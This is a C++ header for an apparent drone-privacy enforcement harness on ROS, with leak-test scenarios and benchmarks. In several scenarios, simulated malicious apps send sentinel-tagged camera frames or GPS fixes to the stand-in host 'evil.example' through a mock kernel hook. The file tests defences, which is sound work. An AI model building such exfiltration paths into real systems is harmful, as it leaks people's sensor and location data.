#pragma once

#include <algorithm>
#include <chrono>
#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <set>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "privaros/airspace.hpp"
#include "privaros/middleware.hpp"
#include "privaros/policy.hpp"

namespace privaros {

// ---------------------------------------------------------------------------
// Sensitive payloads carry a high-entropy sentinel so leak detection is plain
// byte containment.
// ---------------------------------------------------------------------------

inline const std::string& camera_sentinel() {
    static const std::string s = digest_view(sha256("privaros.sentinel.camera.a")) +
                                 digest_view(sha256("privaros.sentinel.camera.b"));
    return s;
}

inline const std::string& gps_sentinel() {
    static const std::string s = digest_view(sha256("privaros.sentinel.gps.a")) +
                                 digest_view(sha256("privaros.sentinel.gps.b"));
    return s;
}

// Synthetic grayscale image with the camera sentinel spliced into the pixel
// rows. 64x64 single-channel.
struct Image {
    int width = 0;
    int height = 0;
    std::string pixels;  // width * height bytes, row major

    std::string encode() const {
        WireWriter w;
        w.u32(static_cast<std::uint32_t>(width));
        w.u32(static_cast<std::uint32_t>(height));
        w.bytes(pixels);
        return w.take();
    }

    static Image decode(std::string_view data) {
        WireReader r(data);
        Image img;
        img.width = static_cast<int>(r.u32());
        img.height = static_cast<int>(r.u32());
        img.pixels = r.bytes();
        r.expect_done();
        if (img.pixels.size() != static_cast<std::size_t>(img.width) * img.height)
            throw WireError("image pixel count mismatch");
        return img;
    }
};

inline Image synthetic_camera_image() {
    Image img;
    img.width = 64;
    img.height = 64;
    img.pixels.resize(static_cast<std::size_t>(img.width) * img.height);
    std::uint64_t state = 0x9e3779b97f4a7c15ull;
    for (auto& c : img.pixels) {
        state = state * 6364136223846793005ull + 1442695040888963407ull;
        c = static_cast<char>(state >> 56);
    }
    const std::string& s = camera_sentinel();
    img.pixels.replace(0, s.size(), s);
    img.pixels.replace(2048, s.size(), s);
    return img;
}

// Deterministic stand-in for the vision-based blur: 16x16 block averaging.
// "Blurred" means the sentinel pattern no longer survives in the pixels.
inline Image blur_pixelate(const Image& img, int block = 16) {
    Image out = img;
    for (int by = 0; by < img.height; by += block) {
        for (int bx = 0; bx < img.width; bx += block) {
            int h = std::min(block, img.height - by);
            int w = std::min(block, img.width - bx);
            unsigned long sum = 0;
            for (int y = 0; y < h; ++y)
                for (int x = 0; x < w; ++x)
                    sum += static_cast<unsigned char>(
                        img.pixels[static_cast<std::size_t>(by + y) * img.width + bx + x]);
            char avg = static_cast<char>(sum / (static_cast<unsigned long>(h) * w));
            for (int y = 0; y < h; ++y)
                for (int x = 0; x < w; ++x)
                    out.pixels[static_cast<std::size_t>(by + y) * img.width + bx + x] = avg;
        }
    }
    return out;
}

// ---------------------------------------------------------------------------
// Leak oracle: the designated sentinel reaching the NETWORK or FILESYSTEM
// sink outside the sanctioned destinations is a leak.
// ---------------------------------------------------------------------------

struct LeakScan {
    bool leaked = false;
    std::vector<std::string> hits;
};

inline LeakScan scan_sinks(const RefMon& kernel, std::string_view sentinel,
                           const std::set<std::string>& sanctioned_files = {},
                           const std::set<std::string>& sanctioned_addrs = {}) {
    LeakScan scan;
    for (const auto& d : kernel.network_transcript()) {
        if (sanctioned_addrs.count(d.addr)) continue;
        if (d.payload.find(sentinel) != std::string::npos) {
            scan.leaked = true;
            scan.hits.push_back("network:" + d.addr + " from " + d.src);
        }
    }
    for (const auto& [path, f] : kernel.files()) {
        if (sanctioned_files.count(path)) continue;
        if (f.contents.find(sentinel) != std::string::npos) {
            scan.leaked = true;
            scan.hits.push_back("file:" + path + " created by " + f.creator);
        }
    }
    return scan;
}

// ---------------------------------------------------------------------------
// Scenarios
// ---------------------------------------------------------------------------

enum class Outcome { Leak, Blocked };

inline std::string_view outcome_name(Outcome o) { return o == Outcome::Leak ? "LEAK" : "BLOCKED"; }

struct RunResult {
    Outcome outcome = Outcome::Blocked;
    std::vector<std::string> transcript;
};

struct Scenario {
    std::string name;
    std::string summary;
    std::map<Mode, Outcome> expected;  // covers all three modes
    std::function<RunResult(Mode)> run;
};

struct UnknownScenarioError : std::invalid_argument {
    explicit UnknownScenarioError(const std::string& name)
        : std::invalid_argument("unknown scenario: " + name) {}
};

namespace scenario_detail {

inline AppIdentity identity_for(const CertificateAuthority& ca, const std::string& name,
                                const std::string& image, std::set<std::string> pubs,
                                std::set<std::string> subs) {
    return ca.issue(name, sha256(image), AppManifest{std::move(pubs), std::move(subs)});
}

inline void note(RunResult& r, std::string line) { r.transcript.push_back(std::move(line)); }

inline void append_audit(RunResult& r, const Runtime& rt) {
    for (const auto& rec : rt.kernel().audit_log())
        r.transcript.push_back(RefMon::format_record(rec));
}

inline void finish(RunResult& r, const Runtime& rt, const LeakScan& scan) {
    append_audit(r, rt);
    for (const auto& h : scan.hits) r.transcript.push_back("sentinel reached " + h);
    r.outcome = scan.leaked ? Outcome::Leak : Outcome::Blocked;
    r.transcript.push_back(std::string("outcome: ") + std::string(outcome_name(r.outcome)));
}

// Fixture images shared by the camera scenarios.
inline const std::string& benign_camera_image() {
    static const std::string img = "camera-driver-v1";
    return img;
}
inline const std::string& benign_camstatus_image() {
    static const std::string img = "camera-status-v1";
    return img;
}
inline const std::string& bad_camstatus_image() {
    static const std::string img = "bad-camera-status-trojan";
    return img;
}

}  // namespace scenario_detail

// Certificate checks (SROS layer): an overtly malicious application without a
// CA-issued certificate is rejected at install in ManifestOnly and Full;
// plain ROS installs it and lets it subscribe to any topic.
inline RunResult run_certificate_check(Mode mode) {
    using namespace scenario_detail;
    RunResult r;
    CertificateAuthority ca;
    CertificateAuthority rogue_ca("rogue-ca");
    Runtime rt(mode, ca);
    const std::string frame = synthetic_camera_image().encode();
    rt.set_sensor_frame(std::string(node::camera), frame);

    auto& cam = rt.launch_app(benign_camera_image(),
                              identity_for(ca, "Camera", benign_camera_image(), {"CameraOutput"}, {}));
    rt.advertise(cam.pid, topic("CameraOutput", "ImageType"));

    // attacker's identity is signed by nobody the drone trusts
    AppIdentity bad = identity_for(rogue_ca, "BadCameraStatus", bad_camstatus_image(), {},
                                   {"CameraOutput"});
    try {
        auto& badp = rt.launch_app(bad_camstatus_image(), bad);
        note(r, "BadCameraStatus installed (no certificate validation)");
        rt.subscribe(badp.pid, topic("CameraOutput"));
        rt.set_on_message(badp.pid, [](Runtime& inner, Pid self, const Message& m) {
            inner.kernel().hook_send_net(self, "evil.example", m.payload);
        });
        rt.matchmake();
        if (auto img = rt.read_sensor(cam.pid, node::camera))
            rt.publish(cam.pid, topic("CameraOutput", "ImageType"), *img);
        rt.run();
    } catch (const LaunchError& e) {
        note(r, std::string("launch rejected: ") + e.what());
    }
    finish(r, rt, scan_sinks(rt.kernel(), camera_sentinel()));
    return r;
}

// Binary swap: the benign CameraStatus binary is replaced by a trojan at the
// same path. SROS identity is the path, so ManifestOnly accepts the image and
// the trojan reads the image type it was never meant to see; Full validates
// the binary digest during certificate validation and rejects the launch.
inline RunResult run_binary_swap(Mode mode) {
    using namespace scenario_detail;
    RunResult r;
    CertificateAuthority ca;
    Runtime rt(mode, ca);
    const std::string frame = synthetic_camera_image().encode();
    rt.set_sensor_frame(std::string(node::camera), frame);

    auto& cam = rt.launch_app(benign_camera_image(),
                              identity_for(ca, "Camera", benign_camera_image(), {"CameraOutput"}, {}));
    rt.advertise(cam.pid, topic("CameraOutput", "ImageType"));
    rt.advertise(cam.pid, topic("CameraOutput", "StatusType"));

    AppIdentity camstatus = identity_for(ca, "CameraStatus", benign_camstatus_image(), {},
                                         {"CameraOutput"});
    try {
        // same path, same identity, different bytes
        auto& swapped = rt.launch_app(bad_camstatus_image(), camstatus);
        note(r, "CameraStatus launched; image digest " + to_hex(sha256(swapped.binary_image)));
        rt.subscribe(swapped.pid, topic("CameraOutput", "ImageType"));  // the quirk: manifest says topic only
        rt.set_on_message(swapped.pid, [](Runtime& inner, Pid self, const Message& m) {
            inner.kernel().hook_send_net(self, "fleet.example", m.payload);
        });
        rt.matchmake();
        if (auto img = rt.read_sensor(cam.pid, node::camera))
            rt.publish(cam.pid, topic("CameraOutput", "ImageType"), *img);
        rt.publish(cam.pid, topic("CameraOutput", "StatusType"), "status:OK");
        rt.run();
    } catch (const LaunchError& e) {
        note(r, std::string("launch rejected: ") + e.what());
    }
    finish(r, rt, scan_sinks(rt.kernel(), camera_sentinel()));
    return r;
}

// Redirection through a trusted declassifier: the host forbids network-facing
// applications from subscribing to CameraOutput directly; ScrubStatus is
// interposed, forwards a single status byte, and rate-limits the flow to once
// per 10 simulated seconds.
inline RunResult run_scrub_redirection(Mode mode) {
    using namespace scenario_detail;
    RunResult r;
    CertificateAuthority ca;
    Runtime rt(mode, ca);
    const std::string frame = synthetic_camera_image().encode();
    rt.set_sensor_frame(std::string(node::camera), frame);

    auto& cam = rt.launch_app(benign_camera_image(),
                              identity_for(ca, "Camera", benign_camera_image(), {"CameraOutput"}, {}));
    auto& scrub = rt.launch_app("scrub-status-v1",
                                identity_for(ca, "ScrubStatus", "scrub-status-v1",
                                             {"SanitizedStatus"}, {"CameraOutput"}));
    auto& camstatus = rt.launch_app(benign_camstatus_image(),
                                    identity_for(ca, "CameraStatus", benign_camstatus_image(), {},
                                                 {"CameraOutput"}));

    rt.advertise(cam.pid, topic("CameraOutput", "ImageType"));
    rt.advertise(cam.pid, topic("CameraOutput", "StatusType"));
    rt.subscribe(camstatus.pid, topic("CameraOutput"));  // greedy: takes any type on the topic

    // ScrubStatus sanity-checks the status feed: one byte, once per 10 s.
    auto last_sent = std::make_shared<std::optional<Time>>();
    rt.set_on_message(scrub.pid, [last_sent](Runtime& inner, Pid self, const Message& m) {
        if (m.key.type_name != "StatusType") return;  // images are dropped
        if (*last_sent && inner.now() - **last_sent < 10'000) return;
        *last_sent = inner.now();
        inner.publish(self, topic("SanitizedStatus", "StatusType"), "K");
    });
    rt.set_on_message(camstatus.pid, [](Runtime& inner, Pid self, const Message& m) {
        inner.kernel().hook_send_net(self, "fleet.example", m.payload);
    });

    rt.matchmake();  // direct Camera -> CameraStatus channels form here

    if (mode == Mode::Full) {
        CommunicationGraph g;
        g.add_node("Camera").add_node("ScrubStatus").add_node("CameraStatus");
        g.add_node(std::string(node::camera)).add_node(std::string(node::network));
        g.mark_trusted("ScrubStatus");
        g.add_edge(std::string(node::camera), "Camera");
        g.add_edge("Camera", "ScrubStatus", topic("CameraOutput"));
        g.add_edge("ScrubStatus", "CameraStatus", topic("SanitizedStatus"));
        g.add_edge("CameraStatus", std::string(node::network));
        g.net_whitelist.insert("fleet.example");
        auto act = bind_and_load(rt, g);
        note(r, "policy loaded: tore " + std::to_string(act.torn_channels.size()) +
                    " direct channel(s), " + std::to_string(act.redirects.size()) + " redirection(s)");
    }

    if (auto img = rt.read_sensor(cam.pid, node::camera)) {
        if (!img->empty()) rt.publish(cam.pid, topic("CameraOutput", "ImageType"), *img);
    }
    rt.publish(cam.pid, topic("CameraOutput", "StatusType"), "status:OK");
    rt.publish(cam.pid, topic("CameraOutput", "StatusType"), "status:OK");  // rate-limited away
    rt.run();

    std::size_t status_bytes = 0;
    for (const auto& d : rt.kernel().network_transcript())
        if (d.payload == "K") ++status_bytes;
    note(r, "status bytes delivered to fleet: " + std::to_string(status_bytes));
    finish(r, rt, scan_sinks(rt.kernel(), camera_sentinel()));
    return r;
}

// Direct communication via OS: the malicious app bypasses publish/subscribe
// entirely and opens a local stream to the camera process. SROS cannot
// mediate that; the kernel-level graph can.
inline RunResult run_direct_os_channel(Mode mode) {
    using namespace scenario_detail;
    RunResult r;
    CertificateAuthority ca;
    Runtime rt(mode, ca);
    const std::string frame = synthetic_camera_image().encode();
    rt.set_sensor_frame(std::string(node::camera), frame);

    auto& cam = rt.launch_app(benign_camera_image(),
                              identity_for(ca, "Camera", benign_camera_image(), {"CameraOutput"}, {}));
    rt.advertise(cam.pid, topic("CameraOutput", "ImageType"));
    // certified, but its manifest does not cover CameraOutput
    auto& bad = rt.launch_app(bad_camstatus_image(),
                              identity_for(ca, "BadCameraStatus", bad_camstatus_image(), {}, {}));

    try {
        rt.subscribe(bad.pid, topic("CameraOutput"));
        note(r, "subscribe to CameraOutput accepted");
    } catch (const ManifestDeniedError& e) {
        note(r, std::string("pub/sub route blocked: ") + e.what());
    }

    if (mode == Mode::Full) {
        CommunicationGraph g;
        g.add_node("Camera").add_node("BadCameraStatus");
        g.add_node(std::string(node::camera)).add_node(std::string(node::network));
        g.add_edge(std::string(node::camera), "Camera");
        g.net_whitelist.insert("*");
        bind_and_load(rt, g);
        note(r, "host policy loaded");
    }

    auto stolen = std::optional<std::string>();
    auto res = rt.kernel().hook_connect(bad.pid, cam.pid, Abstraction::LocalStream);
    if (res.verdict.allowed()) {
        note(r, "direct UNIX-domain channel to Camera established");
        // the camera process happily serves its current frame over the socket
        if (auto img = rt.read_sensor(cam.pid, node::camera); img && !img->empty()) {
            Verdict v = rt.kernel().hook_send_stream(cam.pid, *res.object);
            if (v.allowed()) stolen = *img;
        }
    } else {
        note(r, "direct channel denied by kernel layer");
    }
    if (stolen) rt.kernel().hook_send_net(bad.pid, "evil.example", *stolen);

    finish(r, rt, scan_sinks(rt.kernel(), camera_sentinel()));
    return r;
}

// Network-domain whitelisting: even a network-facing application may talk
// only to the whitelisted fleet address under Full enforcement.
inline RunResult run_net_whitelist(Mode mode) {
    using namespace scenario_detail;
    RunResult r;
    CertificateAuthority ca;
    Runtime rt(mode, ca);

    auto& uplink = rt.launch_app("uplink-v1", identity_for(ca, "Uplink", "uplink-v1", {}, {}));

    if (mode == Mode::Full) {
        CommunicationGraph g;
        g.add_node("Uplink").add_node(std::string(node::network));
        g.add_edge("Uplink", std::string(node::network));
        g.net_whitelist.insert("fleet.example");
        bind_and_load(rt, g);
    }

    // heartbeat to the fleet coordinator, contraband to everywhere else
    rt.kernel().hook_send_net(uplink.pid, "fleet.example", "hb");
    rt.kernel().hook_send_net(uplink.pid, "evil.example", camera_sentinel());

    std::size_t fleet_msgs = 0;
    for (const auto& d : rt.kernel().network_transcript())
        if (d.addr == "fleet.example") ++fleet_msgs;
    note(r, "messages delivered to fleet.example: " + std::to_string(fleet_msgs));
    finish(r, rt, scan_sinks(rt.kernel(), camera_sentinel()));
    return r;
}

// Dual-instance blur pipeline: Navigator needs the raw feed and network
// egress, so two BlurFilter processes interpose, one sanitizing the shared
// stream and one guarding the outbound path. Exported images must be
// pixelated.
inline RunResult run_blur_pipeline(Mode mode) {
    using namespace scenario_detail;
    RunResult r;
    CertificateAuthority ca;
    Runtime rt(mode, ca);
    const std::string frame = synthetic_camera_image().encode();
    rt.set_sensor_frame(std::string(node::camera), frame);

    auto& cam = rt.launch_app(benign_camera_image(),
                              identity_for(ca, "Camera", benign_camera_image(), {"CameraOutput"}, {}));
    AppIdentity blur_id = identity_for(ca, "BlurFilter", "blur-filter-v1", {"SanitizedImages"},
                                       {"CameraOutput", "NavOutput"});
    auto& blur1 = rt.launch_app("blur-filter-v1", blur_id);
    auto& blur2 = rt.launch_app("blur-filter-v1", blur_id);  // second process, same binary
    auto& nav = rt.launch_app("navigator-v1", identity_for(ca, "Navigator", "navigator-v1",
                                                           {"NavOutput"}, {"CameraOutput"}));
    auto& telem = rt.launch_app("telemetry-v1", identity_for(ca, "Telemetry", "telemetry-v1", {},
                                                             {"SanitizedImages"}));

    rt.advertise(cam.pid, topic("CameraOutput", "ImageType"));
    rt.subscribe(nav.pid, topic("CameraOutput", "ImageType"));  // raw feed for navigation
    rt.advertise(nav.pid, topic("NavOutput", "ImageType"));
    rt.subscribe(blur1.pid, topic("CameraOutput", "ImageType"));
    rt.subscribe(blur2.pid, topic("NavOutput", "ImageType"));
    rt.advertise(blur1.pid, topic("SanitizedImages", "ImageType"));
    rt.subscribe(telem.pid, topic("SanitizedImages", "ImageType"));

    if (mode == Mode::Full) {
        AppInventory inv;
        inv.apps = {{"Camera", true, false, false, false},
                    {"Navigator", true, false, true, false},
                    {"BlurFilter", false, false, false, false},
                    {"Telemetry", false, false, true, false}};
        auto g = compile_policy(HighLevelPolicy::blur_exported_images("BlurFilter"), inv);
        bind_and_load(rt, g);
        note(r, "compiled BlurExportedImages policy loaded (dual BlurFilter)");
    }

    // blur1 sanitizes the shared stream; blur2 guards the outbound path
    rt.set_on_message(blur1.pid, [](Runtime& inner, Pid self, const Message& m) {
        Image blurred = blur_pixelate(Image::decode(m.payload));
        inner.publish(self, topic("SanitizedImages", "ImageType"), blurred.encode());
    });
    rt.set_on_message(blur2.pid, [](Runtime& inner, Pid self, const Message& m) {
        Image blurred = blur_pixelate(Image::decode(m.payload));
        inner.kernel().hook_send_net(self, "cloud.example", blurred.encode());
    });
    // Navigator consumes the raw feed and re-publishes frames it wants the
    // cloud to double-check; when unconfined it uploads them directly.
    rt.set_on_message(nav.pid, [](Runtime& inner, Pid self, const Message& m) {
        inner.kernel().hook_send_net(self, "cloud.example", m.payload);  // raw upload attempt
        inner.publish(self, topic("NavOutput", "ImageType"), m.payload);
    });
    rt.set_on_message(telem.pid, [](Runtime& inner, Pid self, const Message& m) {
        inner.kernel().hook_send_net(self, "cloud.example", m.payload);
    });

    rt.matchmake();
    if (auto img = rt.read_sensor(cam.pid, node::camera); img && !img->empty())
        rt.publish(cam.pid, topic("CameraOutput", "ImageType"), *img);
    rt.run();

    std::size_t exported = rt.kernel().network_transcript().size();
    note(r, "network deliveries: " + std::to_string(exported));
    finish(r, rt, scan_sinks(rt.kernel(), camera_sentinel()));
    return r;
}

// Drone lanes: the GPS feed is mirrored into a trusted logger whose
// only sink is the tamper-evident lane log; other applications cannot read
// the feed or the log unless the host policy says so.
inline RunResult run_drone_lane_log(Mode mode) {
    using namespace scenario_detail;
    RunResult r;
    CertificateAuthority ca;
    Runtime rt(mode, ca);
    const std::string gps_fix = gps_sentinel() + " 12.9716 77.5946";
    rt.set_sensor_frame(std::string(node::gps), gps_fix);

    auto& navunit = rt.launch_app("nav-unit-v1", identity_for(ca, "NavUnit", "nav-unit-v1", {}, {}));
    auto& logger = rt.launch_app("trusted-logger-v1",
                                 identity_for(ca, "TrustedLogger", "trusted-logger-v1", {}, {}));
    auto& exfil = rt.launch_app("telemetry-uploader-v1",
                                identity_for(ca, "Exfil", "telemetry-uploader-v1", {}, {}));

    if (mode == Mode::Full) {
        AppInventory inv;
        inv.apps = {{"NavUnit", false, true, false, false},
                    {"TrustedLogger", false, true, false, false},
                    {"Exfil", false, false, true, true}};
        auto g = compile_policy(
            HighLevelPolicy::use_drone_lanes("TrustedLogger",
                                             {LogDestination::Kind::Filesystem, ""}),
            inv);
        bind_and_load(rt, g);
        note(r, "compiled UseDroneLanes policy loaded");
    }

    rt.read_sensor(navunit.pid, node::gps);  // navigation keeps working
    if (auto fix = rt.read_sensor(logger.pid, node::gps); fix && !fix->empty())
        rt.kernel().file_create(logger.pid, "lane.log", *fix);

    // the uploader tries the feed, then the log, then ships what it got
    std::string loot;
    if (auto fix = rt.read_sensor(exfil.pid, node::gps); fix && !fix->empty()) loot += *fix;
    if (rt.kernel().file_exists("lane.log")) {
        auto [verdict, contents] = rt.kernel().file_read(exfil.pid, "lane.log");
        if (verdict.allowed()) loot += contents;
    }
    if (!loot.empty()) {
        rt.kernel().hook_send_net(exfil.pid, "evil.example", loot);
        rt.kernel().file_create(exfil.pid, "stash.dat", loot);
    }

    note(r, std::string("lane log written: ") + (rt.kernel().file_exists("lane.log") ? "yes" : "no"));
    finish(r, rt, scan_sinks(rt.kernel(), gps_sentinel(), {"lane.log"}));
    return r;
}

inline const std::vector<Scenario>& builtin_scenarios() {
    static const std::vector<Scenario> scenarios = [] {
        std::vector<Scenario> s;
        s.push_back({"certificate-check",
                     "uncertified app rejected at install; plain ROS lets it snoop the camera topic",
                     {{Mode::None, Outcome::Leak},
                      {Mode::ManifestOnly, Outcome::Blocked},
                      {Mode::Full, Outcome::Blocked}},
                     run_certificate_check});
        s.push_back({"binary-swap",
                     "trojan binary under the benign CameraStatus path-identity",
                     {{Mode::None, Outcome::Leak},
                      {Mode::ManifestOnly, Outcome::Leak},
                      {Mode::Full, Outcome::Blocked}},
                     run_binary_swap});
        s.push_back({"scrub-redirection",
                     "status flow interposed through trusted ScrubStatus: one byte, rate-limited",
                     {{Mode::None, Outcome::Leak},
                      {Mode::ManifestOnly, Outcome::Leak},
                      {Mode::Full, Outcome::Blocked}},
                     run_scrub_redirection});
        s.push_back({"direct-os-channel",
                     "publish/subscribe bypass over a raw local stream",
                     {{Mode::None, Outcome::Leak},
                      {Mode::ManifestOnly, Outcome::Leak},
                      {Mode::Full, Outcome::Blocked}},
                     run_direct_os_channel});
        s.push_back({"net-whitelist",
                     "outbound traffic pinned to the whitelisted fleet address",
                     {{Mode::None, Outcome::Leak},
                      {Mode::ManifestOnly, Outcome::Leak},
                      {Mode::Full, Outcome::Blocked}},
                     run_net_whitelist});
        s.push_back({"blur-pipeline",
                     "dual BlurFilter instances guard the raw feed and the outbound path",
                     {{Mode::None, Outcome::Leak},
                      {Mode::ManifestOnly, Outcome::Leak},
                      {Mode::Full, Outcome::Blocked}},
                     run_blur_pipeline});
        s.push_back({"drone-lane-log",
                     "GPS feed mirrored into a tamper-evident lane log by a trusted logger",
                     {{Mode::None, Outcome::Leak},
                      {Mode::ManifestOnly, Outcome::Leak},
                      {Mode::Full, Outcome::Blocked}},
                     run_drone_lane_log});
        return s;
    }();
    return scenarios;
}

inline const Scenario& find_scenario(std::string_view name) {
    for (const auto& s : builtin_scenarios())
        if (s.name == name) return s;
    throw UnknownScenarioError(std::string(name));
}

inline RunResult run_scenario(std::string_view name, Mode mode) {
    return find_scenario(name).run(mode);
}

// ---------------------------------------------------------------------------
// Benchmarks: PerformanceTest-style workloads (1 publisher, 1 subscriber,
// fixed cadence) and the trusted-declassifier redirection cost. Reported
// latencies are medians; wall-clock numbers are informational only.
// ---------------------------------------------------------------------------

enum class Workload { Array1m, PointCloud1m, Struct32k, NavSat, Range };

inline std::optional<Workload> workload_from_name(std::string_view s) {
    if (s == "array-1m") return Workload::Array1m;
    if (s == "pointcloud-1m") return Workload::PointCloud1m;
    if (s == "struct-32k") return Workload::Struct32k;
    if (s == "navsat") return Workload::NavSat;
    if (s == "range") return Workload::Range;
    return std::nullopt;
}

inline std::string_view workload_name(Workload w) {
    switch (w) {
        case Workload::Array1m: return "array-1m";
        case Workload::PointCloud1m: return "pointcloud-1m";
        case Workload::Struct32k: return "struct-32k";
        case Workload::NavSat: return "navsat";
        case Workload::Range: return "range";
    }
    return "array-1m";
}

inline std::size_t workload_payload_size(Workload w) {
    switch (w) {
        case Workload::Array1m: return 1'048'576;       // simple byte array
        case Workload::PointCloud1m: return 1'048'576;  // N-dimensional point dump
        case Workload::Struct32k: return 32'768;
        case Workload::NavSat: return 40;   // nav satellite status struct
        case Workload::Range: return 16;    // single range reading
    }
    return 0;
}

struct BenchStats {
    std::string workload;
    Mode mode = Mode::None;
    std::size_t messages = 0;
    std::size_t delivered = 0;
    double median_latency_ticks = 0;
    double median_latency_us = 0;
    double msgs_per_sec = 0;
};

namespace bench_detail {

inline double median(std::vector<double> xs) {
    if (xs.empty()) return 0;
    std::sort(xs.begin(), xs.end());
    std::size_t mid = xs.size() / 2;
    return xs.size() % 2 ? xs[mid] : (xs[mid - 1] + xs[mid]) / 2.0;
}

}  // namespace bench_detail

inline BenchStats bench(Workload workload, Mode mode, std::size_t count = 200) {
    CertificateAuthority ca;
    Runtime rt(mode, ca);
    auto& pub = rt.launch_app("bench-pub-v1",
                              ca.issue("BenchPub", sha256("bench-pub-v1"), {{"bench"}, {}}));
    auto& sub = rt.launch_app("bench-sub-v1",
                              ca.issue("BenchSub", sha256("bench-sub-v1"), {{}, {"bench"}}));
    rt.advertise(pub.pid, topic("bench", "Bytes"));
    rt.subscribe(sub.pid, topic("bench", "Bytes"));
    if (mode == Mode::Full) {
        CommunicationGraph g;
        g.add_node("BenchPub").add_node("BenchSub");
        g.add_edge("BenchPub", "BenchSub", topic("bench"));
        bind_and_load(rt, g);
    }
    rt.matchmake();

    std::string payload(workload_payload_size(workload), '\x5a');
    BenchStats stats;
    stats.workload = std::string(workload_name(workload));
    stats.mode = mode;
    stats.messages = count;
    std::vector<double> ticks, wall_us;
    auto t_begin = std::chrono::steady_clock::now();
    for (std::size_t i = 0; i < count; ++i) {
        rt.advance_clock(100);  // 10 Hz publish cadence in simulated time
        Time t0 = rt.now();
        auto w0 = std::chrono::steady_clock::now();
        stats.delivered += rt.publish(pub.pid, topic("bench", "Bytes"), payload);
        rt.run();
        auto w1 = std::chrono::steady_clock::now();
        Time arrival = rt.inbox(sub.pid).empty() ? rt.now() : rt.inbox(sub.pid).back().at;
        ticks.push_back(static_cast<double>(arrival - t0));
        wall_us.push_back(std::chrono::duration<double, std::micro>(w1 - w0).count());
    }
    auto t_end = std::chrono::steady_clock::now();
    stats.median_latency_ticks = bench_detail::median(ticks);
    stats.median_latency_us = bench_detail::median(wall_us);
    double secs = std::chrono::duration<double>(t_end - t_begin).count();
    stats.msgs_per_sec = secs > 0 ? static_cast<double>(count) / secs : 0;
    return stats;
}

struct RedirectBench {
    BenchStats direct;
    BenchStats null_filter;
    BenchStats pixelate_filter;
};

namespace bench_detail {

// Camera -> Uplink, optionally interposed through a trusted Filter process.
inline BenchStats redirect_case(bool interpose, bool pixelate, std::size_t count) {
    CertificateAuthority ca;
    Runtime rt(Mode::Full, ca);
    const std::string frame = synthetic_camera_image().encode();

    auto& cam = rt.launch_app("bench-cam-v1",
                              ca.issue("Camera", sha256("bench-cam-v1"), {{"CameraOutput"}, {}}));
    auto& filt = rt.launch_app("bench-filter-v1",
                               ca.issue("Filter", sha256("bench-filter-v1"),
                                        {{"Scrubbed"}, {"CameraOutput"}}));
    auto& uplink = rt.launch_app("bench-uplink-v1",
                                 ca.issue("Uplink", sha256("bench-uplink-v1"),
                                          {{}, {"CameraOutput"}}));

    rt.advertise(cam.pid, topic("CameraOutput", "ImageType"));
    rt.subscribe(uplink.pid, topic("CameraOutput", "ImageType"));
    rt.subscribe(filt.pid, topic("CameraOutput", "ImageType"));
    rt.matchmake();

    CommunicationGraph g;
    g.add_node("Camera").add_node("Filter").add_node("Uplink");
    g.mark_trusted("Filter");
    if (interpose) {
        g.add_edge("Camera", "Filter", topic("CameraOutput"));
        g.add_edge("Filter", "Uplink", topic("Scrubbed"));
    } else {
        g.add_edge("Camera", "Filter", topic("CameraOutput"));
        g.add_edge("Camera", "Uplink", topic("CameraOutput"));
    }
    bind_and_load(rt, g);

    if (interpose) {
        rt.set_on_message(filt.pid, [pixelate](Runtime& inner, Pid self, const Message& m) {
            std::string out = pixelate ? blur_pixelate(Image::decode(m.payload)).encode() : m.payload;
            inner.publish(self, topic("Scrubbed", "ImageType"), out);
        });
    }

    BenchStats stats;
    stats.workload = interpose ? (pixelate ? "redirect-pixelate" : "redirect-null") : "redirect-direct";
    stats.mode = Mode::Full;
    stats.messages = count;
    std::vector<double> ticks, wall_us;
    auto t_begin = std::chrono::steady_clock::now();
    for (std::size_t i = 0; i < count; ++i) {
        rt.advance_clock(100);
        Time t0 = rt.now();
        auto w0 = std::chrono::steady_clock::now();
        rt.publish(cam.pid, topic("CameraOutput", "ImageType"), frame);
        rt.run();
        auto w1 = std::chrono::steady_clock::now();
        const auto& inbox = rt.inbox(uplink.pid);
        if (!inbox.empty() && inbox.back().at >= t0) {
            ++stats.delivered;
            ticks.push_back(static_cast<double>(inbox.back().at - t0));
        }
        wall_us.push_back(std::chrono::duration<double, std::micro>(w1 - w0).count());
    }
    auto t_end = std::chrono::steady_clock::now();
    stats.median_latency_ticks = median(ticks);
    stats.median_latency_us = median(wall_us);
    double secs = std::chrono::duration<double>(t_end - t_begin).count();
    stats.msgs_per_sec = secs > 0 ? static_cast<double>(count) / secs : 0;
    return stats;
}

}  // namespace bench_detail

inline RedirectBench bench_redirection(std::size_t count = 50) {
    RedirectBench out;
    out.direct = bench_detail::redirect_case(false, false, count);
    out.null_filter = bench_detail::redirect_case(true, false, count);
    out.pixelate_filter = bench_detail::redirect_case(true, true, count);
    return out;
}

}  // namespace privaros
